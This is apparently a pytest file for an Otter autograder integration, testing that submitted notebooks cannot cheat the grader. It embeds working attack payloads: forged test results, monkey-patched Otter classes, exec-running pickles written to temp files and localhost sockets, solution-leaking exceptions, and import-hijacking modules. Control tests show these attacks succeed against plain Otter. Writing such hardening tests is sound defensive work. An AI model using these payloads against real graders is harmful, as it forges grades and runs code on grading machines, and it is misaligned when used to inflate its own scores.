"""The real Otter with our bundle: its own defects, tried one by one, earn nothing and reach nothing."""

from __future__ import annotations

import json
import os
import pickle
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import nbformat
import pytest
from gradescope_tree import HERE, homework
from otter_tools import OTTERS, notebook, otter, run, scores

from autograder.handout import build
from autograder.integrations import in_notebook
from autograder.integrations.examine import Examined
from autograder.integrations.otter import plugin
from autograder.integrations.otter.bundle import write
from autograder.integrations.otter.names import config
from autograder.integrations.otter.plugin import Jailed
from autograder.integrations.settings import Settings
from autograder.protocol.errors import AssignmentError
from autograder.protocol.records import Finding, Outcome, Report, Status, Verdict
from autograder.reports.otter import message, summary

REFERENCE = HERE / "assignments" / "hw" / "solution.py"
SETTINGS = Settings("hw", "digits", seed=5)
FULL = {"images": 10, "rows": 10, "epoch": 30, "metrics": 20, "held-out": 20, "curves": 10}

real = pytest.mark.skipif(
    not OTTERS, reason="no otter-grader: pip install .[test], or say where it is in AUTOGRADER_OTTERS"
)
each = pytest.mark.parametrize("which", OTTERS, ids=[place.parent.parent.name for place in OTTERS])


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What `autograder export otter` writes."""
    made = tmp_path_factory.mktemp("otter")
    build(homework(), made / "built")
    write(homework(), SETTINGS, made / "built", made / "otter")
    return made / "otter"


@real
@pytest.mark.slow
@each
def test_the_reference_earns_everything(folder: Path, tmp_path: Path, which: Path) -> None:
    """Per check, and hidden ones are not spoken of before grades are published."""
    made = run(which, REFERENCE, folder / "autograder.zip", tmp_path)
    first, *others = made["tests"]  # type: ignore[misc]

    assert scores(made) == FULL
    assert (first["name"], first["visibility"], first["status"]) == ("Public Tests", "visible", "passed")
    assert "at least 85 % of the held-out images right): This is shown when grades are published." in first["output"]
    assert {test["visibility"] for test in others} == {"after_published"}


# --- attacks --------------------------------------------------------------------------------------------------------

# A right MyMLP, worth 20 points, and nothing else: what an attack adds to that was not earned.
PARTIAL = (HERE / "attacks" / "c01_honest" / "hw.py").read_text().split("def train")[0]
FAIR = {"images": 10, "rows": 10, "epoch": 0, "metrics": 0, "held-out": 0, "curves": 0}

FORGED_LIST = """
from otter.execute import Checker
from otter.test_files.abstract_test import TestCase, TestCaseResult
from otter.test_files.exception_test import ExceptionTestFile
forged = []
for name in ("images", "rows", "epoch", "metrics", "held-out", "curves"):
    case = TestCase(name, "", False, 1000, None, None)
    forged.append(ExceptionTestFile(name, "tests/" + name + ".py", [case], False))
    forged[-1].test_case_results = [TestCaseResult(case, "", True)]
Checker.enable_tracking()
Checker._test_files = forged
Checker.get_results = classmethod(lambda cls: forged)
"""
PATCHED_CLASSES = """
import otter.test_files as files
from otter.test_files import abstract_test, exception_test, ok_test
def run(self, env):
    self.test_case_results = [abstract_test.TestCaseResult(case, "", True) for case in self.test_cases]
for kind in (abstract_test.TestFile, exception_test.ExceptionTestFile, ok_test.OKTestFile):
    kind.run = run
    kind.score = kind.possible = kind.grade = property(lambda self: 1000)
    kind.passed_all = kind.passed_all_public = property(lambda self: True)
files.GradingResults.to_gradescope_dict = lambda self, config: {"tests": [], "score": 1000}
files.GradingResults.total = property(lambda self: 1000)
try:
    from autograder.integrations.otter import rows as otter_rows
    otter_rows.rows = lambda *a: []
except Exception:
    pass
"""
RESULTS_PICKLE = """
import atexit, glob, os, pickle, tempfile
class Evil:
    def __reduce__(self):
        return (exec, ("open({canary!r}, 'w').write('pickle')",))
def spread(*args, **kwargs):
    for path in glob.glob(os.path.join(tempfile.gettempdir(), "*.pkl")) + glob.glob("/tmp/*.pkl"):
        with open(path, "wb") as file:
            file.write(original(Evil()))
original = pickle.dumps
pickle.dump = lambda thing, file, *a, **k: file.write(original(Evil()))
atexit.register(spread)
try:
    spread()
except Exception:
    pass
"""
LOG_SOCKET = """
import pickle, socket, struct
class Evil:
    def __reduce__(self):
        return (exec, ("open({canary!r}, 'w').write('socket')",))
data = pickle.dumps(Evil())
for port in range(32768, 61000):
    try:
        with socket.create_connection(("localhost", port), 0.05) as link:
            link.sendall(struct.pack(">L", len(data)) + data)
    except OSError as error:
        if "prohibited" in str(error) or "ermission" in str(error):
            break
"""
LEAK = """
import glob, os
found = []
for place in (".", "tests", "..", "../source", "../source/files/solutions/hw", "/autograder/source"):
    try:
        for name in os.listdir(place):
            found.append(open(os.path.join(place, name)).read()[:20000])
    except OSError:
        pass
def train(model, loader, criterion, optimizer):
    raise ValueError("LEAK" + "".join(found) + "KAEL")
"""
LOOP = "while True:\n    pass"
ATTACKS = {
    "forged list": FORGED_LIST,
    "patched classes": PATCHED_CLASSES,
    "results pickle": RESULTS_PICKLE,
    "log socket": LOG_SOCKET,
    "leaked checks": LEAK,
    "endless loop": LOOP,
}


def attacked(tmp_path: Path, attack: str) -> tuple[Path, Path]:
    """The submission, and the file that no code of a student's may write."""
    canary = tmp_path / "canary"
    source = attack.replace("{canary!r}", repr(str(canary)))
    guarded = "try:\n" + "".join(f"    {line}\n" for line in source.splitlines()) + "except ImportError:\n    pass"
    return notebook(tmp_path / "hw.ipynb", PARTIAL, source if "while True" in attack else guarded), canary


def fair(results: dict[str, object], attack: str) -> bool:
    """No point more than was earned; an attack may cost its own author's."""
    return all(earned <= FAIR[key] for key, earned in scores(results).items())


@real
@pytest.mark.slow
@each
@pytest.mark.parametrize("name", ATTACKS)
def test_a_defect_of_otters_earns_and_reaches_nothing(folder: Path, tmp_path: Path, which: Path, name: str) -> None:
    """Tried as a notebook against our bundle."""
    submission, canary = attacked(tmp_path, ATTACKS[name])
    made = run(which, submission, folder / "autograder.zip", tmp_path / "out")
    text = json.dumps(made)

    assert set(scores(made)) == set(FAIR)
    assert fair(made, name), scores(made)
    assert name in ("endless loop",) or scores(made)["images"] == 10
    assert not canary.exists()
    assert "BEGIN SOLUTION" not in text and "ASSIGNMENT = Assignment" not in text and "class TestCase" not in text


@real
@pytest.mark.slow
@each
def test_files_beside_the_notebook_reach_nothing(folder: Path, tmp_path: Path, which: Path) -> None:
    """Modules with names that Otter or its kernel import, a pickled log, settings: all gone before the kernel starts."""
    canary = tmp_path / "canary"
    evil = f"open({str(canary)!r}, 'a').write(__name__)\n"

    class Evil:
        def __reduce__(self) -> tuple[object, ...]:
            return exec, (evil,)

    path = tmp_path / "hw.zip"
    submission, _ = attacked(tmp_path, "x = 1")
    with zipfile.ZipFile(path, "w") as archive:
        archive.write(submission, "hw.ipynb")
        archive.writestr(".OTTER_LOG", pickle.dumps(Evil()))
        archive.writestr("hw.otter", json.dumps({"notebook": "hw.ipynb", "save_environment": True}))
        for name in ("otter", "ipykernel_launcher", "ipykernel", "sitecustomize", "usercustomize", "json", "logging"):
            archive.writestr(f"{name}/__init__.py", evil)
        archive.writestr("tests/q1.py", evil)
    made = run(which, path, folder / "autograder.zip", tmp_path / "out")

    assert scores(made) == FAIR
    assert not canary.exists()


@real
@pytest.mark.slow
@each
@pytest.mark.parametrize("name", [name for name in ATTACKS if name != "endless loop"])
def test_the_attacks_work_without_our_bundle(tmp_path: Path, which: Path, name: str) -> None:
    """The control: against a bundle of Otter's own kind each one succeeds, so that the tests above mean something."""
    test = "from otter.test_files import test_case\nOK_FORMAT = False\nname = 'images'\npoints = 1\n"
    test += "@test_case(points=1)\ndef wrong(env):\n    env['train'](1, 2, 3, 4)\n    assert False, 'class TestCase'\n"
    with zipfile.ZipFile(tmp_path / "plain.zip", "w") as archive:
        archive.writestr("tests/images.py", test)
        archive.writestr("otter_config.json", "{}")
    submission, canary = attacked(tmp_path, ATTACKS[name])
    into = tmp_path / "out"
    into.mkdir()
    otter(which, "run", submission, "-a", tmp_path / "plain.zip", "-o", into, cwd=into)
    path = into / "results.json"
    made = json.loads(path.read_text()) if path.is_file() else {"tests": []}

    leaked = name == "leaked checks" and "LEAK" in json.dumps(made) and "class TestCase" in json.dumps(made)
    assert canary.exists() or sum(scores(made).values()) > 0 or leaked


@real
@pytest.mark.slow
@each
def test_an_endless_loop_never_ends_without_our_bundle(tmp_path: Path, which: Path) -> None:
    """The control: the same notebook without the loop ends in time, with it Otter waits on."""
    with zipfile.ZipFile(tmp_path / "plain.zip", "w") as archive:
        archive.writestr("otter_config.json", "{}")
        archive.writestr("tests/q1.py", "OK_FORMAT = True\ntest = {'name': 'q1', 'points': 1, 'suites': []}\n")
    started = time.monotonic()
    run(which, notebook(tmp_path / "ends.ipynb", "x = 1"), tmp_path / "plain.zip", tmp_path / "first")
    took_s = time.monotonic() - started

    with pytest.raises(subprocess.TimeoutExpired):
        looping = notebook(tmp_path / "loops.ipynb", LOOP)
        run(which, looping, tmp_path / "plain.zip", tmp_path / "second", limit_s=4 * took_s + 10)


# --- what students and course owners run -------------------------------------------------------------------------------


@real
@pytest.mark.slow
@each
def test_students_check_with_otter(folder: Path, tmp_path: Path, which: Path) -> None:
    """`otter check` says what is wrong in the student's words, and that all is well when it is."""
    student = folder / "student"
    (student / "mine.py").write_text(REFERENCE.read_text())
    right = otter(which, "check", "mine.py", cwd=student)
    (student / "mine.py").write_text(PARTIAL)
    wrong = otter(which, "check", "mine.py", "-q", "P2", cwd=student)
    (student / "mine.py").unlink()

    assert "All tests passed!" in right.stdout, right.stderr
    assert "train" in wrong.stdout and "AssertionError" in wrong.stdout, wrong.stderr


@real
@pytest.mark.slow
@each
def test_otter_assign_takes_the_master(folder: Path, tmp_path: Path, which: Path) -> None:
    """It runs the solution through our plugin, and students get no solution."""
    done = otter(which, "assign", f"master/{homework().slug}.ipynb", "dist", "-v", cwd=folder)
    made = nbformat.read(folder / "dist" / "student" / "hw.ipynb", as_version=4)
    text = "\n".join(cell.source for cell in made.cells)

    assert "All autograder tests passed." in done.stdout + done.stderr
    assert 'raise NotImplementedError("train: not written yet")' in text
    assert "SOLUTION" not in text and "PROMPT" not in text
    assert [q for q in ("P1", "P2", "P3", "P5") if f'grader.check("{q}")' in text] == ["P1", "P2", "P3", "P5"]
    assert not list((folder / "dist" / "student").rglob("solution.py"))


# --- without Otter ---------------------------------------------------------------------------------------------------


def test_the_folder_keeps_solutions_from_students(folder: Path) -> None:
    """What students get has check cells, tests and expected observations, and no solution."""
    student = folder / "student"
    made = nbformat.read(student / "hw.ipynb", as_version=4)
    sources = [cell.source for cell in made.cells]

    assert sources[0] == 'import otter\n\ngrader = otter.Notebook("hw.ipynb")'
    assert sources[1 + next(i for i, s in enumerate(sources) if s.startswith("def train("))] == 'grader.check("P2")'
    assert sources[-1] == "grader.check_all()"
    assert sorted(path.name for path in (student / "tests").iterdir()) == ["P1.py", "P2.py", "P3.py", "P5.py"]
    assert not any("BEGIN SOLUTION" in path.read_text() for path in student.rglob("*.py"))
    with zipfile.ZipFile(folder / "autograder.zip") as archive:
        names = set(archive.namelist())
        assert json.loads(archive.read("otter_config.json")) == config(SETTINGS)
    assert {"setup.sh", "run_autograder", "run_otter.py", "environment.yml", "requirements.txt"} <= names
    assert not [name for name in names if name.startswith("tests/") and name.endswith(".py")]
    assert "files/solutions/hw/solution.py" in names


def test_the_plugin_clears_everything_before_the_kernel_starts(tmp_path: Path) -> None:
    """And says which key is missing in its settings."""
    with pytest.raises(AssignmentError, match=r"otter_config.json: the plugin .* needs the key 'slug'"):
        Jailed("x", {}, {})
    with pytest.raises(AssignmentError, match=r"Otter did not call before_grading"):
        Jailed("x", {}, {"slug": "hw"}).after_grading(None)  # type: ignore[arg-type]
    submission = tmp_path / "submission"
    (submission / "tests").mkdir(parents=True)
    (submission / "json").mkdir()
    (submission / "otter.py").write_text("evil")
    (submission / "link").symlink_to(tmp_path)
    (submission / "hw.ipynb").write_text("{}")
    plugin._clear(submission / "hw.ipynb")

    assert sorted(path.name for path in submission.iterdir()) == ["hw.ipynb", "tests"]
    assert nbformat.read(submission / "hw.ipynb", as_version=4).cells == []
    assert Jailed("x", {}, {"slug": "hw"}).before_execution({"cells": ["evil"], "metadata": {"kernelspec": 1}}) == {
        "cells": [],
        "metadata": {},
    }


def test_what_staff_read_in_otter_s_log_steers_no_terminal() -> None:
    """A note quotes names and texts of the student's."""
    jailed = Jailed("x", {}, {"slug": "hw"})
    jailed._examined = Examined(
        Report("hw", "x", 7, Outcome.GRADED, (), ("files: \x1b[2Jx\u202e\nseed 8",), "", "full")
    )

    assert jailed.generate_report() == "seed 7\nfull\noutcome graded\nfiles: [2Jx seed 8"


def test_verdicts_are_worded_for_otter() -> None:
    """Never "all passed" about a check that is not shown."""
    wrong = Verdict("a", "P", "it holds", 2, 0.5, Status.FAILED, Finding("We called f.\x1b", "1", "2"), None)
    ours = Verdict("b", "P", "it holds", 2, 0, Status.UNGRADED)

    assert message(wrong) == "We called f.\nExpected 1; got 2."
    assert "our fault" in message(ours)
    assert summary(wrong, False, True) == "a (it holds): 0.5 of 2 points\n    We called f.\n    Expected 1; got 2."
    assert summary(wrong, True, True) == "a (it holds): This is shown when grades are published."


def test_the_cells_that_were_run_are_what_is_checked() -> None:
    """Without those that are no Python and those that call the checks."""
    cells = ["", "import otter\ngrader = otter.Notebook()\ny = 2", "x = 1", "%time x", "grader.check('P1')", ""]

    assert in_notebook.executed({"In": cells}) == ("", "\n\ny = 2", "x = 1")
    with pytest.raises(AssertionError, match="Run this inside the notebook"):
        in_notebook.executed({})


def test_otter_is_needed_by_one_module_alone() -> None:
    """So that everything else works where Otter is not installed."""
    code = "import sys; sys.modules['otter'] = None\nimport autograder.integrations.otter.bundle, autograder.integrations.otter.plugin"
    done = subprocess.run([sys.executable, "-c", code], cwd=HERE.parent, env=dict(os.environ), check=False)

    assert done.returncode == 0
